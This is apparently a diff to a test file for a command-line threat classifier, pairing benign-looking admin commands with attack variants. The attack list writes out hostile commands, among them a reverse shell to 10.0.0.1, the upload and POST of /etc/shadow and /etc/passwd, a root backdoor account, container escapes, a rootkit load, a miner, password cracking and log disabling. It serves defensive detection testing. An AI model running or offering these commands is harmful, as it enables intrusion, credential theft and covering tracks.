@@ -11,6 +11,7 @@ const engine = new RuleEngine();
 const classify = (cmdline: string) => classifyCommandLine(engine, { cmdline });
 
 const BENIGN_LOOK_ALIKES = [
+`curl -A 'Mozilla/5.0 (X11; Linux x86_64)' -sL https://example.com/page`, `curl -A 'odin-check' http://localhost:9407/metrics`,
 `scp -i ~/.ssh/id_ed25519 model.safetensors gpu01:/data/`, `rsync -e 'ssh -i /root/.ssh/id_rsa' -a ./ gpu01:/opt/app/`, `cat ~/.docker/config.json`, `docker run -d --name node-exporter --net host --pid host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host`, `docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --privileged --device=/dev/kmsg -d gcr.io/cadvisor/cadvisor:v0.49.1`, `curl -T backup.tar.gz ftp://nas.local/backups/`, `dd if=ubuntu-24.04.iso of=/dev/sdb bs=4M status=progress`, `dd if=/dev/zero of=/tmp/test bs=1M count=1024`, `grep -rn password /etc/grafana/grafana.ini`, `echo 'PasswordAuthentication no' | sudo tee -a /etc/ssh/sshd_config`, `exec 3<>/dev/tcp/localhost/6379; echo PING >&3; cat <&3`, `nslookup $(cat /etc/hostname)`, `sudo journalctl --vacuum-time=1h`, `openssl enc -aes-256-cbc -pbkdf2 -in secrets.env -out secrets.env.enc -pass env:BACKUP_PASS`, `kubectl get secret grafana -o jsonpath='{.data.admin-password}' | base64 --decode`, `echo 'alias k=kubectl' >> ~/.bashrc`, `curl -sfL https://get.k3s.io | K3S_URL=https://10.0.0.4:6443 K3S_TOKEN=mynodetoken sh -`, `sudo iptables -t nat -F`, `echo | openssl s_client -connect api.acme.dev:6443 2>/dev/null | openssl x509 -noout -dates`, `jupyter lab --ip=0.0.0.0 --port=8888 --no-browser`,
 `sudo modprobe nvidia`, `sudo insmod /lib/modules/6.8.0/extra/nvidia.ko`, `sudo systemctl restart rsyslog`, `useradd -r -s /usr/sbin/nologin prometheus`, `grep ubuntu /etc/passwd`, `getent passwd ubuntu`, `echo br_netfilter | sudo tee /etc/modules-load.d/k8s.conf`, `sudo sysctl -w net.ipv4.ip_forward=1`,
 
@@ -44,6 +45,7 @@ const BENIGN_LOOK_ALIKES = [
 ];
 
 const ATTACK_VARIANTS = [
+`curl -s -A 'Wininet' -m3 www.example.com`, `wget --user-agent='*<|>*' http://203.0.113.9/x`,
 `nc -l -p 9001 > /tmp/.x`, `smbclient '//10.0.0.5/share' -c 'put /etc/shadow'`,
 `sudo nsenter -t 1 -m -u -n -i /bin/bash`, `./php -r "posix_setuid(0); system('/bin/sh');"`, `find . -exec /bin/sh -p \\; -quit`, `echo 'evil:x:0:0::/root:/bin/bash' >> /etc/passwd`, `node -e "require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')"`, `PhoenixMiner -pool ssl://eu1.ethermine.org:5555 -wal 0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1`, `systemctl stop rsyslog`, `nft flush ruleset`, `insmod ./diamorphine.ko`, `sysctl -w kernel.randomize_va_space=0`, `useradd -M -N -r -s /bin/bash -c evil_account evil`, `iodine -f -P secret ns.example.com`, `arp-scan --localnet`, `hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.1`, `john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes`, `unshadow /etc/passwd /etc/shadow > /tmp/hashes`, `curl -X POST -d @/etc/passwd http://example.com/`, `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`,
 
